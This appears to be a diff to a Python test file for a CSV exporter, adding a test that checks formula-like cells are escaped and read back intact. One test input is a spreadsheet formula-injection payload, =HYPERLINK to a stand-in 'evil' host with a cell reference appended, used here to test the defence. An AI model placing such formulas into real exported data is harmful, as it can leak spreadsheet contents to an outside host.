@@ -13,6 +13,7 @@ from diffviews_desktop.errors import UsageError
 from diffviews_desktop.exports import registry
 from diffviews_desktop.exports.contents import Arrays, Table
 from diffviews_desktop.exports.with_record import write_with_record
+from diffviews_desktop.text.plain import from_csv_cell
 from diffviews_desktop.values.columns import Column
 
 RECORD = {"kind": "runs", "model": "m", "folder": "/a b/ä"}
@@ -68,6 +69,21 @@ def test_a_csv_has_its_record_beside_it(tmp_path: Path) -> None:
     assert files == (tmp_path / "a.csv", tmp_path / "a.diffviews.json")
     assert json.loads(files[1].read_text()) == RECORD
     assert files[0].read_text().splitlines()[1] == "'=1,anchor,0.5,1,2020-01-02,blue,5,1"
+
+
+def test_what_a_spreadsheet_would_split_is_one_cell_for_others(tmp_path: Path) -> None:
+    import pandas
+
+    texts = ["c\t=1+1", 'b;=HYPERLINK("http://evil/?"&A1);x', "a|b", "two\n- lines", "plain"]
+    name = "b;=1"
+    write_with_record(Table({name: texts, "x": np.arange(5)}), tmp_path / "a.csv")
+    frame = pandas.read_csv(tmp_path / "a.csv")
+    assert list(map(from_csv_cell, frame.columns)) == [name, "x"]
+    assert list(map(from_csv_cell, frame[frame.columns[0]])) == texts
+    assert frame["x"].tolist() == list(range(5))
+    written = (tmp_path / "a.csv").read_bytes().split(b"\r\n")
+    assert written[:2] == [b"\"'b;'=1\",x", b"\"'c\t'=1+1\",0"]
+    assert written[-2:] == [b"plain,4", b""]
 
 
 @pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.npz"])
